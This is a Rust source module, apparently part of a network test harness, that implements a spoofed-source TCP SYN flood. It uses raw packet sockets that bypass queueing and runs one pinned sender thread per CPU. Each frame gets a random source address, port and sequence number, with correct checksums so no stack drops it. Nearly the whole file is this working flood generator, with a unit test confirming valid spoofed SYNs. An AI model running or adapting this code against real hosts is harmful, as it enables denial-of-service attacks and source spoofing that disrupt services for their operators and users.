//! Spoofed SYNs as fast as this machine can send them, by a thread on each CPU, from a host's interface: for
//! scenarios about what a flood does to others.
//!
//! Each frame has another source address and port, and right checksums, so that no stack discards it for
//! another reason. It ends by itself after its time, whoever forgets it.

#![expect(unsafe_code, reason = "sendmmsg on a packet socket, for which nix makes a vector a call")]

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use nix::net::if_::if_nametoindex;
use nix::sched::{CpuSet, sched_setaffinity};
use nix::unistd::Pid;

use super::{Host, Mac, queues};

/// Frames that one call sends.
const BATCH: usize = 64;

/// Ethernet, IPv4, TCP with the options of a usual SYN.
const FRAME: usize = 14 + 20 + 40;

/// A SYN's options as Linux sends them: the largest segment, SACK, timestamps, the window's scale.
const OPTIONS: [u8; 20] = [2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7];

/// To whom, and with which sources.
#[derive(Clone, Copy, Debug)]
pub struct Target {
    pub mac: Mac,
    pub address: Ipv4Addr,
    pub port: u16,
    /// The first octet of the sources; the others vary.
    pub network: u8,
}

/// A running flood. Dropped, it ends.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<Result<Sent>>>,
}

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    pub frames: u64,
    pub elapsed: Duration,
}

impl Sent {
    pub fn per_second(&self) -> f64 {
        self.frames as f64 / self.elapsed.as_secs_f64()
    }
}

impl Flood {
    /// Sends from the host's interface until it is stopped, or for so long.
    ///
    /// # Errors
    /// Where there is no such interface, or no packet socket can be opened.
    pub fn start(host: &Host, interface: &str, target: Target, longest: Duration) -> Result<Self> {
        let own = host.mac(interface)?;
        let mut flood = Self { stop: Arc::new(AtomicBool::new(false)), threads: Vec::new() };
        for cpu in queues::cpus()? {
            let socket = host.namespace().within(|| {
                let index = if_nametoindex(interface).context("an interface to send on")?;
                sender(index).context("a packet socket")
            })?;
            let stopped = Arc::clone(&flood.stop);
            flood.threads.push(std::thread::spawn(move || {
                stay(cpu)?;
                let began = Instant::now();
                let mut frames = Frames::new(own, &target, cpu);
                let mut sent = 0;
                while !stopped.load(Ordering::Relaxed) && began.elapsed() < longest {
                    frames.vary();
                    sent += frames.send(&socket)?;
                }
                Ok(Sent { frames: sent, elapsed: began.elapsed() })
            }));
        }
        Ok(flood)
    }

    /// What all threads sent.
    ///
    /// # Errors
    /// Where one could not send.
    pub fn stop(mut self) -> Result<Sent> {
        self.stop.store(true, Ordering::Relaxed);
        let mut all = Sent { frames: 0, elapsed: Duration::ZERO };
        for thread in self.threads.drain(..) {
            let sent = match thread.join() {
                Ok(sent) => sent?,
                Err(panic) => std::panic::resume_unwind(panic),
            };
            all.frames += sent.frames;
            all.elapsed = all.elapsed.max(sent.elapsed);
        }
        Ok(all)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            // What it would have told is nobody's concern any more.
            drop(thread.join());
        }
    }
}

/// Keeps the calling thread on one CPU, so that it fills that CPU's queue.
fn stay(cpu: usize) -> Result<()> {
    let mut set = CpuSet::new();
    set.set(cpu).context("a CPU")?;
    sched_setaffinity(Pid::from_raw(0), &set).context("a thread's CPU")
}

/// A socket that sends whole frames past the queueing discipline.
fn sender(index: u32) -> Result<OwnedFd> {
    // SAFETY: a call without pointers; the descriptor is ours alone.
    let socket = unsafe {
        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0);
        ensure!(fd >= 0, "{}", std::io::Error::last_os_error());
        OwnedFd::from_raw_fd(fd)
    };
    let mut address = libc::sockaddr_ll {
        sll_family: libc::AF_PACKET as u16,
        sll_protocol: 0,
        sll_ifindex: index as i32,
        sll_hatype: 0,
        sll_pkttype: 0,
        sll_halen: 0,
        sll_addr: [0; 8],
    };
    let on: libc::c_int = 1;
    // SAFETY: both pointers are to values of the sizes that are given.
    let result = unsafe {
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            (&raw const on).cast(),
            size_of_val(&on) as u32,
        ) | libc::bind(socket.as_raw_fd(), (&raw mut address).cast(), size_of_val(&address) as u32)
    };
    ensure!(result == 0, "{}", std::io::Error::last_os_error());
    Ok(socket)
}

/// A batch, all frames alike but for what varies.
struct Frames {
    bytes: Box<[[u8; FRAME]; BATCH]>,
    network: u8,
    random: u64,
}

impl Frames {
    fn new(own: Mac, target: &Target, thread: usize) -> Self {
        let mut frame = [0u8; FRAME];
        frame[..6].copy_from_slice(&target.mac);
        frame[6..12].copy_from_slice(&own);
        frame[12..14].copy_from_slice(&[0x08, 0x00]);
        let ip = &mut frame[14..34];
        ip[..12].copy_from_slice(&[0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0]);
        ip[16..].copy_from_slice(&target.address.octets());
        let tcp = &mut frame[34..];
        tcp[2..4].copy_from_slice(&target.port.to_be_bytes());
        tcp[12..16].copy_from_slice(&[0xa0, 0x02, 0xfa, 0xf0]);
        tcp[20..].copy_from_slice(&OPTIONS);
        let seed = u64::from(std::process::id()) + thread as u64;
        let random = seed << 32 | 0x9e37_79b9;
        Self { bytes: Box::new([frame; BATCH]), network: target.network, random }
    }

    /// Gives every frame another source, port and number.
    fn vary(&mut self) {
        for frame in self.bytes.iter_mut() {
            // xorshift64 (Marsaglia, 2003): nothing here has to be unforeseeable.
            self.random ^= self.random << 13;
            self.random ^= self.random >> 7;
            self.random ^= self.random << 17;
            let [a, b, c, d, e, f, g, h] = self.random.to_ne_bytes();
            frame[26..30].copy_from_slice(&[self.network, a, b, c.max(1)]);
            frame[34..36].copy_from_slice(&(1024 | u16::from_ne_bytes([d, e])).to_be_bytes());
            frame[38..42].copy_from_slice(&[f, g, h, a]);
            let sum = checksum(&frame[14..34], 0, 10);
            frame[24..26].copy_from_slice(&sum.to_be_bytes());
            let pseudo = words(&frame[26..34]) + 6 + (FRAME as u32 - 34);
            let sum = checksum(&frame[34..], pseudo, 16);
            frame[50..52].copy_from_slice(&sum.to_be_bytes());
        }
    }

    /// How many of them were sent.
    fn send(&mut self, socket: &OwnedFd) -> Result<u64> {
        let mut pieces = self
            .bytes
            .each_mut()
            .map(|frame| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: FRAME });
        let mut messages = pieces.each_mut().map(|piece| {
            // SAFETY: integers and pointers; all zero is an empty message.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_iov = piece;
            message.msg_hdr.msg_iovlen = 1;
            message
        });
        // SAFETY: as many messages as are said, each with one piece that outlives the call.
        let sent =
            unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), BATCH as u32, 0) };
        if sent >= 0 {
            return Ok(sent as u64);
        }
        let error = std::io::Error::last_os_error();
        match error.raw_os_error() {
            // The receiver's queue is full, as it is in a flood.
            Some(libc::ENOBUFS | libc::EAGAIN) => Ok(0),
            _ => Err(error).context("a flood"),
        }
    }
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

/// The Internet checksum (RFC 1071) of these bytes, whose own field at `hole` counts as zero.
fn checksum(bytes: &[u8], more: u32, hole: usize) -> u16 {
    let own = u32::from(u16::from_be_bytes([bytes[hole], bytes[hole + 1]]));
    let mut sum = words(bytes) + more - own;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::checksum::verify;

    #[test]
    fn every_frame_is_a_syn_of_another_source_with_right_checksums() {
        let address = Ipv4Addr::new(192, 168, 139, 150);
        let target = Target { mac: [2, 0, 0, 0, 0, 1], address, port: 8443, network: 10 };
        let mut frames = Frames::new([2, 0, 0, 0, 0, 2], &target, 0);
        frames.vary();
        frames.vary();
        let mut sources = std::collections::BTreeSet::new();
        for frame in frames.bytes.iter() {
            verify(frame).expect("right checksums");
            assert_eq!((frame[26], frame[47]), (10, 2));
            sources.insert(frame[26..36].to_vec());
        }
        assert_eq!(sources.len(), BATCH);
    }
}
